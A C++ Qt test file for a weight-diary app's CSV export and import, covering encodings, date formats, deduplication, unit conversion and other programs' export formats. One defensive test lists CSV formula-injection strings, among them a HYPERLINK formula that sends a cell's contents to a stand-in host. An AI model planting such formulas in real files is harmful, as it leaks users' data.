// The diary's CSV export and import against real files.
#include "data/errors.h"
#include "datafile/csv.h"
#include "datafile/csvreader.h"
#include "support/tempdb.h"

#include <QBuffer>
#include <QFile>
#include <QTest>
#include <ctime>

class TestCsv : public QObject {
    Q_OBJECT

private:
    static QByteArray exported(const TempDatabase& db)
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        datafile::exportCsv(db.path(), buffer);
        return buffer.data();
    }
    static const char* diary() { return "SELECT time, quote(lb), demo FROM rj ORDER BY rowid"; }

private slots:
    void initTestCase()
    {
        qputenv("TZ", "Asia/Shanghai");
        tzset();
    }

    void exportIsWhatASpreadsheetOpens()
    {
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 13:27:17.154', '早饭，少吃', 120.5);"
                               "INSERT INTO rj VALUES ('2026-12-08 08:00:00.000', '他说\"加油\"', 125);"
                               "INSERT INTO rj VALUES ('2026-12-09 21:05:09.007', '第一行\r\n第二行\n😀', NULL);"));
        const QByteArray expected = "\xEF\xBB\xBF"
                                    "时间,体重(斤),日记\r\n"
                                    "\"2026-12-07 13:27:17.154\",120.5,\"早饭，少吃\"\r\n"
                                    "\"2026-12-08 08:00:00.000\",125,\"他说\"\"加油\"\"\"\r\n"
                                    "\"2026-12-09 21:05:09.007\",,\"第一行\r\n第二行\n😀\"\r\n";
        QCOMPARE(exported(db), expected);
    }

    void roundTripGivesTheSameRowsAndReimportAddsNothing()
    {
        TempDatabase source;
        source.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 13:27:17.154', 'a, b', 120.5);"
                                   "INSERT INTO rj VALUES ('2026-12-07 13:27:17.154', '\"q\"', 0.1);"
                                   "INSERT INTO rj VALUES ('2026-12-08 00:00:00.000', '行\r\n行\n😀', NULL);"
                                   "INSERT INTO rj VALUES ('2026-12-09 07:00:00.001', '', 1999.75);"));
        const QByteArray csv = exported(source);
        TempDatabase target;
        const datafile::ImportResult first = datafile::importCsv(target.path(), csv, QStringLiteral("d.csv"));
        QCOMPARE(first.added, 4);
        QCOMPARE(first.skipped, 0);
        QCOMPARE(target.rows(diary()), source.rows(diary()));
        QCOMPARE(exported(target), csv);

        const datafile::ImportResult again = datafile::importCsv(target.path(), csv, QStringLiteral("d.csv"));
        QCOMPARE(again.added, 0);
        QCOMPARE(again.skipped, 4);
        QCOMPARE(target.rows(diary()), source.rows(diary()));
    }

    void importReadsWhatSpreadsheetsSave_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QStringList>("rows");
        const QStringList two{QStringLiteral("2026-12-07 08:05:00.000|120.5|早饭，少吃"),
                              QStringLiteral("2026-12-08 19:30:00.000|NULL|午饭")};
        // 时间,体重(斤),日记 / 2026/12/7 8:05,120.5,早饭，少吃 / 2026/12/8 19:30,,午饭 in GB18030 (code page 936)
        QTest::newRow("GB18030, CRLF, slashes, no seconds")
            << QByteArray::fromHex("cab1bce42c"
                                   "cce5d6d828bdef292c"
                                   "c8d5bcc70d0a"
                                   "323032362f31322f3720383a30352c3132302e352c"
                                   "d4e7b7b9a3acc9d9b3d40d0a"
                                   "323032362f31322f382031393a33302c2c"
                                   "cee7b7b90d0a")
            << two;
        QTest::newRow("UTF-8 without the mark, LF, reordered and extra columns, spaces around the weight")
            << QByteArray("日记,备注,体重(斤),时间\n"
                          "\"早饭，少吃\",x, 120.5 ,2026-12-07 08:05\n"
                          "午饭,,,2026-12-08 19:30:00\n\n")
            << two;
        QTest::newRow("full-width digits, one-digit month, milliseconds kept")
            << QByteArray("\xEF\xBB\xBF时间,体重(斤),日记\r\n2026-1-02 07:08:09.5,１２０．５,x\r\n")
            << QStringList{QStringLiteral("2026-01-02 07:08:09.500|120.5|x")};
        QTest::newRow("a row given twice goes in once; same time, other weight or text kept")
            << QByteArray("时间,体重(斤),日记\n2026-12-07 08:05,120,x\n2026-12-07 08:05,121,x\n"
                          "2026-12-07 08:05:00.000,120,x\n2026-12-07 08:05,120,y\n")
            << QStringList{QStringLiteral("2026-12-07 08:05:00.000|120.0|x"),
                           QStringLiteral("2026-12-07 08:05:00.000|121.0|x"),
                           QStringLiteral("2026-12-07 08:05:00.000|120.0|y")};
        QTest::newRow("a row given again after another time goes in once")
            << QByteArray(
                   "时间,体重(斤),日记\n2026-12-07 08:05,120,x\n2026-12-07 07:00,120,x\n2026-12-07 08:05,120,x\n")
            << QStringList{QStringLiteral("2026-12-07 07:00:00.000|120.0|x"),
                           QStringLiteral("2026-12-07 08:05:00.000|120.0|x")};
    }

    void importReadsWhatSpreadsheetsSave()
    {
        QFETCH(QByteArray, file);
        QFETCH(QStringList, rows);
        TempDatabase db;
        datafile::importCsv(db.path(), file, QStringLiteral("d.csv"));
        QCOMPARE(db.rows(diary()), rows);
    }

    void badRowStopsWithLineAndColumnAndWritesNothing_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QStringList>("inMessage");
        const QByteArray head = "时间,体重(斤),日记\r\n2026-12-07 08:05,120,ok\r\n";
        QTest::newRow("time") << head + "2026-13-01 08:00,120,x\r\n"
                              << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“时间”列"),
                                             QStringLiteral("2026-13-01 08:00")};
        QTest::newRow("weight not a number")
            << head + "2026-12-08 08:00,12o,x\r\n"
            << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列"), QStringLiteral("“12o”")};
        QTest::newRow("weight above the program's limit")
            << head + "2026-12-08 08:00,2000.5,x\r\n"
            << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列"), QStringLiteral("2000")};
        QTest::newRow("negative weight") << head + "2026-12-08 08:00,-1,x\r\n"
                                         << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列")};
        QTest::newRow("missing column") << head + "2026-12-08 08:00,120\r\n"
                                        << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“日记”列")};
        QTest::newRow("too many fields") << head + "2026-12-08 08:00,1,\"a\r\nb\"\r\n2026-12-08 08:00,1,x,y\r\n"
                                         << QStringList{QStringLiteral("第 5 行"), QStringLiteral("4 个字段")};
        QTest::newRow("no such header") << QByteArray("时间,体重,日记\r\n2026-12-07 08:05,120,ok\r\n")
                                        << QStringList{QStringLiteral("第 1 行"), QStringLiteral("体重(斤)")};
        QTest::newRow("quote never closed") << head + "2026-12-08 08:00,1,\"x\r\n"
                                            << QStringList{QStringLiteral("第 3 行"), QStringLiteral("引号")};
        // 23:30 UTC on the last day of 9999 is in the year 10000 in Shanghai.
        QTest::newRow("UTC time past the last year")
            << QByteArray("#Version:6\n#Units:kg\n#date;weight;weight trend;body fat;body fat trend;comment\n"
                          "2026-12-03T14:30:00.000Z;80;;;;ok\n9999-12-31T23:30:00.000Z;80;;;;x\n")
            << QStringList{QStringLiteral("第 5 行"), QStringLiteral("“date”列"), QStringLiteral("9999-12-31T23:30")};
    }

    void badRowStopsWithLineAndColumnAndWritesNothing()
    {
        QFETCH(QByteArray, file);
        QFETCH(QStringList, inMessage);
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-01 08:00:00.000', 'before', 130)"));
        try {
            datafile::importCsv(db.path(), file, QStringLiteral("d.csv"));
            QFAIL("the import went through");
        } catch (const DataError& e) {
            for (const QString& part : inMessage)
                QVERIFY2(e.message().contains(part), qPrintable(e.message()));
        }
        QCOMPARE(db.rows(diary()), QStringList{QStringLiteral("2026-12-01 08:00:00.000|130.0|before")});
    }

    void readerTakesWhatSpreadsheetsWriteBack_data()
    {
        QTest::addColumn<QByteArray>("row");
        QTest::addColumn<QString>("time");
        QTest::addColumn<QString>("text");
        // 𠀀 (U+20000) is four bytes in GB18030, which GBK cannot read.
        QTest::newRow("GB18030 four bytes") << QByteArray("2026-12-07 08:00,120,\x95\x32\x82\x36\xd6\xd0")
                                            << "2026-12-07 08:00:00.000" << QStringLiteral("𠀀中");
        QTest::newRow("seconds at midnight") << QByteArray("2026-12-07 00:00:05,120,x") << "2026-12-07 00:00:05.000"
                                             << "x";
        QTest::newRow("guarded formula") << QByteArray("2026/12/7 8:05,120,'=1+1") << "2026-12-07 08:05:00.000"
                                         << "=1+1";
        QTest::newRow("guarded apostrophe") << QByteArray("2026/12/7 8:05,120,\"''-x\"") << "2026-12-07 08:05:00.000"
                                            << "'-x";
        QTest::newRow("apostrophe of the user's own")
            << QByteArray("2026/12/7 8:05,120,'ok") << "2026-12-07 08:05:00.000"
            << "'ok";
        QTest::newRow("quoted, with a doubled quote and text after the closing one")
            << QByteArray("\"2026/12/7 8:05\",\"120\",\"a\"\"b\"c") << "2026-12-07 08:05:00.000"
            << "a\"bc";
        QTest::newRow("quoted and empty") << QByteArray("2026/12/7 8:05,120,\"\"") << "2026-12-07 08:05:00.000"
                                          << "";
    }

    void readerTakesWhatSpreadsheetsWriteBack()
    {
        QFETCH(QByteArray, row);
        QFETCH(QString, time);
        QFETCH(QString, text);
        const QByteArray head = row.contains('\x95')
                                    ? QByteArray("\xca\xb1\xbc\xe4,\xcc\xe5\xd6\xd8(\xbd\xef),\xc8\xd5\xbc\xc7\r\n")
                                    : QByteArray("时间,体重(斤),日记\r\n");
        const std::vector<datafile::CsvEntry> entries =
            datafile::readCsv(head + row + "\r\n", QStringLiteral("d.csv")).entries;
        QCOMPARE(entries.size(), size_t(1));
        QCOMPARE(QString::fromLatin1(entries[0].time, 23), time);
        QCOMPARE(QString::fromUtf8(entries[0].text), text);
    }

    void formulasLeaveAsTextAndComeBackExactly()
    {
        const QStringList texts{"=1+1",
                                "+86 138",
                                "-2 斤",
                                "@SUM(A1)",
                                "\t缩进",
                                "\r回车",
                                "=HYPERLINK(\"http://x/?d=\"&A2,\"点我\")",
                                "'=x",
                                "''@y",
                                "'自己的撇号",
                                "平常的话"};
        TempDatabase source;
        for (int i = 0; i < texts.size(); ++i)
            source.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 08:00:%1.000', '%2', 120)")
                            .arg(i, 2, 10, QLatin1Char('0'))
                            .arg(QString(texts[i]).replace(u'\'', QStringLiteral("''"))));
        const QByteArray csv = exported(source);
        QVERIFY(csv.contains("\"'=1+1\""));
        QVERIFY(csv.contains("\"'@SUM(A1)\""));
        QVERIFY(csv.contains("\"''=x\""));
        QVERIFY(csv.contains("\"'自己的撇号\""));
        // Every field of a row but the weight is quoted: no field starts with a formula character.
        for (const QByteArray& line : csv.split('\n'))
            QVERIFY2(line.isEmpty() || !QByteArray("=+-@").contains(line.at(0)), line.constData());
        TempDatabase target;
        datafile::importCsv(target.path(), csv, QStringLiteral("d.csv"));
        QCOMPARE(target.rows(QStringLiteral("SELECT demo FROM rj ORDER BY rowid")), texts);
    }

    void rowAsASpreadsheetSavesItIsTheStoredEntry_data()
    {
        QTest::addColumn<QByteArray>("row");
        QTest::addColumn<int>("added");
        QTest::newRow("to the minute") << QByteArray("2026/1/2 5:50,120,a") << 0;
        QTest::newRow("to the second") << QByteArray("2026/1/2 5:50:06,120,a") << 0;
        QTest::newRow("the day only") << QByteArray("2026/1/2,120,a") << 0;
        QTest::newRow("as stored") << QByteArray("2026-01-02 05:50:06.953,120,a") << 0;
        QTest::newRow("another minute") << QByteArray("2026/1/2 5:51,120,a") << 1;
        QTest::newRow("another second") << QByteArray("2026/1/2 5:50:07,120,a") << 1;
        QTest::newRow("another millisecond") << QByteArray("2026-01-02 05:50:06.952,120,a") << 1;
        QTest::newRow("another text") << QByteArray("2026/1/2 5:50,120,b") << 1;
        QTest::newRow("another weight") << QByteArray("2026/1/2 5:50,121,a") << 1;
        QTest::newRow("no weight") << QByteArray("2026/1/2 5:50,,a") << 1;
    }

    void rowAsASpreadsheetSavesItIsTheStoredEntry()
    {
        QFETCH(QByteArray, row);
        QFETCH(int, added);
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-01-02 05:50:06.953', 'a', 120)"));
        const datafile::ImportResult result =
            datafile::importCsv(db.path(), "时间,体重(斤),日记\r\n" + row + "\r\n", QStringLiteral("d.csv"));
        QCOMPARE(result.added, added);
        QCOMPARE(result.skipped, 1 - added);
        QCOMPARE(db.scalar(QStringLiteral("SELECT count(*) FROM rj")).toInt(), 1 + added);
    }

    void manyRowsOfOneTimeKeepOneOfEachEntry()
    {
        QByteArray csv = "时间,体重(斤),日记\n";
        for (int i = 0; i < 20000; ++i)
            csv += "2026/12/7,120," + QByteArray::number(i % 10000) + "\n";
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 21:00:00.000', '7', 120)"));
        const datafile::ImportResult result = datafile::importCsv(db.path(), csv, QStringLiteral("d.csv"));
        QCOMPARE(result.added, 9999);
        QCOMPARE(result.skipped, 10001);
    }

    // Files written by hand from each format's public description; weights worked by hand: kg x 2, lb x 0.90718474,
    // to 0.01 斤. Libra's times are UTC; the test runs in Shanghai (UTC+8, no summer time).
    void otherProgramsExports_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QStringList>("rows");
        QTest::addColumn<int>("notWeighings");
        QTest::newRow("openScale")
            << QByteArray("\"DATE\",\"TIME\",\"WEIGHT\",\"FAT\",\"WATER\",\"MUSCLE\",\"COMMENT\"\n"
                          "\"2026-12-01\",\"07:30\",\"80.15\",\"25.0\",\"55.0\",\"40.0\",\"早上\"\n"
                          "\"2026-12-02\",\"07:31:09\",\"79.9\",\"\",\"\",\"\",\"\"\n")
            << "openScale" << QStringList{"2026-12-01 07:30:00.000|160.3|早上", "2026-12-02 07:31:09.000|159.8|"} << 0;
        QTest::newRow("openScale, older")
            << QByteArray("\"biceps\",\"comment\",\"dateTime\",\"fat\",\"weight\"\n"
                          "0.0,\"run, then weighed\",2026-12-02 07:45,24.5,79.5\n")
            << "openScale" << QStringList{"2026-12-02 07:45:00.000|159.0|run, then weighed"} << 0;
        QTest::newRow("openScale, semicolons")
            << QByteArray("dateTime;weight;fat;comment\n02.12.2026 08:00;79,4;24,5;\n") << "openScale"
            << QStringList{"2026-12-02 08:00:00.000|158.8|"} << 0;
        QTest::newRow("Libra")
            << QByteArray("#Version:6\n#Units:lb\n#date;weight;weight trend;body fat;body fat trend;comment\n"
                          "2026-12-03T14:30:00.000Z;176.4;177.0;;;after run\n"
                          "2026-12-03T17:05:00.000Z;176.0;176.9;;;\n")
            << "Libra" << QStringList{"2026-12-03 22:30:00.000|160.03|after run", "2026-12-04 01:05:00.000|159.66|"}
            << 0;
        QTest::newRow("TrendWeight")
            << QByteArray("Date,Actual Weight (kg),Trend Weight (kg),Interpolated\n"
                          "2026-12-04,80.2,80.6,False\n2026-12-05,,80.5,True\n2026-12-06,80.35,80.5,False\n")
            << "TrendWeight" << QStringList{"2026-12-04 00:00:00.000|160.4|", "2026-12-06 00:00:00.000|160.7|"} << 1;
        QTest::newRow("wger") << QByteArray("Date,Weight\n2026-12-05,81\n") << "wger"
                              << QStringList{"2026-12-05 00:00:00.000|162.0|"} << 0;
        QTest::newRow("two columns in 斤") << QByteArray("日期,体重(斤)\n2026/12/6,150.5\n") << "日期和体重两列"
                                           << QStringList{"2026-12-06 00:00:00.000|150.5|"} << 0;
        QTest::newRow("two columns in kg") << QByteArray("date,weight (kg)\n2026-12-06 21:00,75.25\n")
                                           << "日期和体重两列" << QStringList{"2026-12-06 21:00:00.000|150.5|"} << 0;
    }

    void otherProgramsExports()
    {
        QFETCH(QByteArray, file);
        QFETCH(QString, format);
        QFETCH(QStringList, rows);
        QFETCH(int, notWeighings);
        TempDatabase db;
        const datafile::ImportResult result = datafile::importCsv(db.path(), file, QStringLiteral("d.csv"));
        QVERIFY2(datafile::formatName(result.format).startsWith(format),
                 qPrintable(datafile::formatName(result.format)));
        QCOMPARE(result.added, rows.size());
        QCOMPARE(result.notWeighings, notWeighings);
        QCOMPARE(db.rows(diary()), rows);
        // The same file again adds nothing.
        QCOMPARE(datafile::importCsv(db.path(), file, QStringLiteral("d.csv")).added, 0);
    }

    // Each program's file as it writes it (tests/datafile/exports); weights worked by hand as above, Libra's UTC times
    // in Shanghai.
    void eachProgramsFileAsItWritesIt_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QStringList>("rows");
        QTest::newRow("Libra 5: an empty line before the header")
            << "libra-5.csv"
            << "Libra" << QStringList{"2026-12-03 22:30:00.000|160.4|", "2026-12-04 14:00:00.000|160.8|早上跑步"};
        // 176.4 x 0.90718474 = 160.027…, 176.0 x 0.90718474 = 159.664…; the second row stops after its weight.
        QTest::newRow("Libra 6: pounds, fields left out")
            << "libra-6.csv"
            << "Libra" << QStringList{"2026-12-03 22:30:00.000|160.03|", "2026-12-04 13:07:48.000|159.66|"};
        QTest::newRow("openScale") << "openscale.csv"
                                   << "openScale"
                                   << QStringList{"2026-12-01 07:30:00.000|160.3|早上",
                                                  "2026-12-02 07:31:09.000|159.8|"};
        QTest::newRow("openScale 2") << "openscale-2.csv"
                                     << "openScale" << QStringList{"2026-12-02 07:45:00.000|159.0|称前喝了水"};
        QTest::newRow("openScale, semicolons") << "openscale-semicolons.csv"
                                               << "openScale" << QStringList{"2026-12-02 08:00:00.000|158.8|"};
        QTest::newRow("TrendWeight") << "trendweight.csv"
                                     << "TrendWeight"
                                     << QStringList{"2026-12-04 00:00:00.000|160.4|", "2026-12-06 00:00:00.000|160.7|"};
        QTest::newRow("wger") << "wger.csv"
                              << "wger"
                              << QStringList{"2026-12-05 00:00:00.000|162.0|", "2026-12-06 00:00:00.000|161.0|"};
        QTest::newRow("Tevu") << "tevu.csv"
                              << "Tevu"
                              << QStringList{"2026-12-07 13:27:17.154|120.5|早饭，少吃",
                                             "2026-12-08 08:00:00.000|NULL|=1+1"};
    }

    void eachProgramsFileAsItWritesIt()
    {
        QFETCH(QString, file);
        QFETCH(QString, format);
        QFETCH(QStringList, rows);
        QFile exported(QStringLiteral(TEVU_SOURCE_DIR "/tests/datafile/exports/") + file);
        QVERIFY(exported.open(QIODevice::ReadOnly));
        TempDatabase db;
        const datafile::ImportResult result = datafile::importCsv(db.path(), exported.readAll(), file);
        QVERIFY2(datafile::formatName(result.format).startsWith(format),
                 qPrintable(datafile::formatName(result.format)));
        QCOMPARE(db.rows(diary()), rows);
    }

    // Blank lines before the header, of any format: LF, CRLF, spaces, after the byte-order mark.
    void blankLinesBeforeTheHeaderAreSkipped_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("row");
        QTest::newRow("Tevu") << QByteArray("\xEF\xBB\xBF\r\n  \r\n时间,体重(斤),日记\r\n2026-12-07 08:00,120,a\r\n")
                              << "2026-12-07 08:00:00.000|120.0|a";
        QTest::newRow("semicolons") << QByteArray("\n\ndateTime;weight;comment\n02.12.2026 08:00;79,4;b\n")
                                    << "2026-12-02 08:00:00.000|158.8|b";
        QTest::newRow("Libra, blank lines everywhere")
            << QByteArray("\n#Version:5\n\n#Units:kg\n \n#date;weight;weight trend;body fat;body fat trend;log\n\n"
                          "2026-12-03T14:30:00.000Z;80;80;;;c\n")
            << "2026-12-03 22:30:00.000|160.0|c";
    }

    void blankLinesBeforeTheHeaderAreSkipped()
    {
        QFETCH(QByteArray, file);
        QFETCH(QString, row);
        TempDatabase db;
        datafile::importCsv(db.path(), file, QStringLiteral("d.csv"));
        QCOMPARE(db.rows(diary()), QStringList{row});
    }

    // 70 in each unit word: kilograms x 2 = 140 斤, pounds x 0.90718474 = 63.50 斤, 斤 as they are. 公斤 holds 斤.
    void everyUnitWordOfAHeader_data()
    {
        QTest::addColumn<QString>("header");
        QTest::addColumn<double>("jin");
        QTest::newRow("公斤") << "日期,体重(公斤)" << 140.0;
        QTest::newRow("千克") << "日期,体重（千克）" << 140.0;
        QTest::newRow("kg") << "date,weight (kg)" << 140.0;
        QTest::newRow("KG") << "date,Weight [KG]" << 140.0;
        QTest::newRow("lb") << "date,weight (lb)" << 63.5;
        QTest::newRow("lbs") << "Date,Weight (lbs)" << 63.5;
        QTest::newRow("磅") << "日期,体重(磅)" << 63.5;
        QTest::newRow("斤") << "日期,体重(斤)" << 70.0;
    }

    void everyUnitWordOfAHeader()
    {
        QFETCH(QString, header);
        QFETCH(double, jin);
        const std::vector<datafile::CsvEntry> entries =
            datafile::readCsv(header.toUtf8() + "\n2026-12-02,70\n", QStringLiteral("u.csv")).entries;
        QCOMPARE(entries.size(), size_t(1));
        QCOMPARE(entries[0].weight.value_or(-1), jin);
    }

    // A spreadsheet saves a carriage return in a text as a line feed, and CRLF too. The exported diary saved so adds
    // nothing, and keeps no apostrophe: the rows below are what such a save of the export gives, written by hand.
    void textsWithCarriageReturnsComeBackAsTheSameEntries()
    {
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 08:00:00.000', char(13) || '=1+1', 120);"
                               "INSERT INTO rj VALUES ('2026-12-07 09:00:00.000', '早' || char(13) || '晚', NULL);"
                               "INSERT INTO rj VALUES ('2026-12-07 10:00:00.000', 'a' || char(13, 10) || 'b', 1);"));
        const QStringList before = db.rows(diary());
        QVERIFY(exported(db).contains("\"'\r=1+1\""));
        const datafile::ImportResult result = datafile::importCsv(
            db.path(),
            "时间,体重(斤),日记\n2026-12-07 08:00:00.000,120,\"'\n=1+1\"\n2026-12-07 09:00:00.000,,\"早\n晚\"\n"
            "2026-12-07 10:00:00.000,1,\"a\nb\"\n",
            QStringLiteral("d.csv"));
        QCOMPARE(result.added, 0);
        QCOMPARE(result.skipped, 3);
        QCOMPARE(db.rows(diary()), before);
        // A text of its own that begins with an apostrophe and a line end keeps its apostrophe through a round trip.
        TempDatabase own;
        own.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 08:00:00.000', '''' || char(10) || 'x', 1);"));
        TempDatabase back;
        datafile::importCsv(back.path(), exported(own), QStringLiteral("d.csv"));
        QCOMPARE(back.rows(diary()), own.rows(diary()));
    }

    // A UTF-8 file with one row from a GB18030 file (你好 is C4 E3 BA C3 there), and a GB18030 file with bytes that
    // are neither: the message names the line and the encoding.
    void aLineOfAnotherEncodingIsNamed_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("message");
        QTest::newRow("UTF-8 with one GB18030 row")
            << QByteArray("时间,体重(斤),日记\n2026-12-07 08:00,120,早\n2026-12-08 08:00,120,\xC4\xE3\xBA\xC3\n")
            << "第 3 行不是有效的 UTF-8 文本";
        QTest::newRow("UTF-8 with a mark")
            << QByteArray("\xEF\xBB\xBF时间,体重(斤),日记\n2026-12-08 08:00,120,\xC4\xE3\n")
            << "第 2 行不是有效的 UTF-8 文本";
        QTest::newRow("neither") << QByteArray("date,weight (kg)\n2026-12-08,80\n2026-12-09,\x81\x20\n")
                                 << "第 3 行既不是 UTF-8 也不是 GB18030";
    }

    void aLineOfAnotherEncodingIsNamed()
    {
        QFETCH(QByteArray, file);
        QFETCH(QString, message);
        try {
            datafile::readCsv(file, QStringLiteral("d.csv"));
            QFAIL("the file was read");
        } catch (const DataError& e) {
            QVERIFY2(e.message().contains(message), qPrintable(e.message()));
        }
    }

    // A time without an offset stands as the file gives it, as in the program's own files, even in an hour that the
    // clock skips or repeats (Berlin: 2026-03-29 02:00 to 03:00 and 2026-10-25 02:00 to 03:00).
    void otherProgramsTimesAndWeights_data()
    {
        QTest::addColumn<QByteArray>("zone");
        QTest::addColumn<QByteArray>("row");
        QTest::addColumn<QString>("time");
        QTest::addColumn<double>("weight");
        QTest::newRow("whole kilograms") << QByteArray("Asia/Shanghai") << QByteArray("2026-12-02 07:45,79,x")
                                         << "2026-12-02 07:45:00.000" << 158.0;
        QTest::newRow("spaces around the weight")
            << QByteArray("Asia/Shanghai") << QByteArray("2026-12-02 07:45, 80.25 ,x") << "2026-12-02 07:45:00.000"
            << 160.5;
        QTest::newRow("an hour the clock skips")
            << QByteArray("Europe/Berlin") << QByteArray("2026-03-29 02:30,80,x") << "2026-03-29 02:30:00.000" << 160.0;
        QTest::newRow("an hour the clock repeats")
            << QByteArray("Europe/Berlin") << QByteArray("2026-10-25 02:30:10,80.005,x") << "2026-10-25 02:30:10.000"
            << 160.01;
    }

    void otherProgramsTimesAndWeights()
    {
        QFETCH(QByteArray, zone);
        QFETCH(QByteArray, row);
        QFETCH(QString, time);
        QFETCH(double, weight);
        const QByteArray shanghai = qgetenv("TZ");
        qputenv("TZ", zone);
        tzset();
        const std::vector<datafile::CsvEntry> entries =
            datafile::readCsv("dateTime,weight,comment\n" + row + "\n", QStringLiteral("o.csv")).entries;
        qputenv("TZ", shanghai);
        tzset();
        QCOMPARE(entries.size(), size_t(1));
        QCOMPARE(QString::fromLatin1(entries[0].time, 23), time);
        QCOMPARE(entries[0].weight.value_or(-1), weight);
    }

    void aWeightWithoutItsUnitIsRefused()
    {
        TempDatabase db;
        try {
            datafile::importCsv(db.path(), "Date,Actual Weight,Trend Weight\n2026-12-04,80.2,80.6\n",
                                QStringLiteral("t.csv"));
            QFAIL("a weight of no known unit was imported");
        } catch (const DataError& e) {
            QVERIFY2(e.message().contains(QStringLiteral("单位")), qPrintable(e.message()));
        }
        QCOMPARE(db.scalar(QStringLiteral("SELECT count(*) FROM rj")).toInt(), 0);
    }

    void diaryStaysInTimeOrderAfterAnImport()
    {
        TempDatabase db;
        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-02 08:00:00.000', 'two', 1);"
                               "INSERT INTO rj VALUES ('2026-12-04 08:00:00.000', 'four', 1);"));
        datafile::importCsv(db.path(),
                            "时间,体重(斤),日记\n2026-12-03 08:00,1,three-a\n2026-12-01 08:00,1,one\n"
                            "2026-12-03 08:00,1,three-b\n2026-12-05 08:00,1,five\n",
                            QStringLiteral("d.csv"));
        QCOMPARE(db.rows(QStringLiteral("SELECT demo FROM rj ORDER BY rowid")),
                 (QStringList{"one", "two", "three-a", "three-b", "four", "five"}));
    }
};

QTEST_GUILESS_MAIN(TestCsv)
#include "tst_csv.moc"
